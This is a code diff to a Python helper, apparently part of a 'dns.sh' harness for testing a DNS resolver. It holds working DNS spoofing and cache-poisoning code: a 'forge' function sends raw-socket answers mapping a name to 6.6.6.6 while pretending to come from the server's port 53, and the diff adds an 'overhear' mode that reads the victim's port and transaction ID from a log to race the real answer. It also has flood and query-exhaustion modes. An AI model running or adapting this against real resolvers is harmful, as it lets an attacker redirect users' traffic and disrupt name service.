@@ -3,15 +3,18 @@
 """dns - what dns.sh needs to ask and to lie with.
 
     ask SERVER NAME PORT ID          one query from that port under that id: prints the address of the first answer
-    forge SERVER VICTIM PORT ID NAME DELTAS   answers 6.6.6.6 to NAME, as from SERVER's port 53, to VICTIM's PORT and ID, each shifted by
-                                     DELTAS "port:id,port:id..."; twenty times, 20 ms apart
+    forge SERVER VICTIM PORT ID NAME DELTAS STOP   answers 6.6.6.6 to NAME, as from SERVER's port 53, to VICTIM's PORT and ID, each shifted by
+                                     DELTAS "port:id,port:id..."; every 20 ms, twenty times at least, until there is a file STOP
+    overhear LOG SERVER VICTIM NAME DELTAS STOP   the same with port and id that LOG tells of, the name server's, as soon as it does
     silent SERVER COUNT SECONDS      so many queries that nobody answers, renewed whenever one is refused or given up
     flood SERVER PORT NAME SECONDS   as many as can be sent, and the answers thrown away
     steady SERVER NAME ADDRESS SECONDS  one after the other, each asked again every 0.3 s until it is answered: prints how many were answered,
                                      how often one was asked at most, and how many answers were wrong
     times SERVER NAME COUNT          so many, one after the other: prints how many were answered and the 99th percentile in us
 """
+import os
 import random
+import re
 import socket
 import struct
 import sys
@@ -47,10 +50,12 @@ def ask(server, name, port, ident):
             print("nothing")
 
 
-def forge(server, victim, port, ident, name, deltas):
+def forge(server, victim, port, ident, name, deltas, stop):
     """Raw: the source is not ours. The kernel fills in IPv4's checksum and length; UDP needs none."""
+    sent = 0
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
-        for _ in range(20):
+        while sent < 20 or not os.path.exists(stop):
+            sent += 1
             for delta in deltas.split(","):
                 by_port, by_id = map(int, delta.split(":"))
                 body = forged(name, (ident + by_id) & 0xFFFF)
@@ -58,6 +63,17 @@ def forge(server, victim, port, ident, name, deltas):
                                    socket.inet_aton(victim))
                 sock.sendto(head + struct.pack(">4H", 53, port + by_port, 8 + len(body), 0) + body, (victim, 0))
             time.sleep(0.02)
+
+
+def overhear(log, server, victim, name, deltas, stop):
+    """It has begun before the query, since to start takes longer than the answer does."""
+    while not os.path.exists(stop):
+        with open(log, encoding="utf-8") as file:
+            heard = re.search(r"^udp (\d+) (\d+) %s " % re.escape(name), file.read(), re.M)
+        if heard:
+            forge(server, victim, int(heard[1]), int(heard[2]), name, deltas, stop)
+            return
+        time.sleep(0.005)
 
 
 def silent(server, count, seconds):
@@ -137,7 +153,9 @@ def times(server, name, count):
 def main():
     verb, rest = sys.argv[1], sys.argv[2:]
     if verb == "forge":
-        forge(rest[0], rest[1], int(rest[2]), int(rest[3]), rest[4], rest[5])
+        forge(rest[0], rest[1], int(rest[2]), int(rest[3]), rest[4], rest[5], rest[6])
+    elif verb == "overhear":
+        overhear(*rest)
     elif verb == "ask":
         ask(rest[0], rest[1], int(rest[2]), int(rest[3]))
     elif verb == "silent":
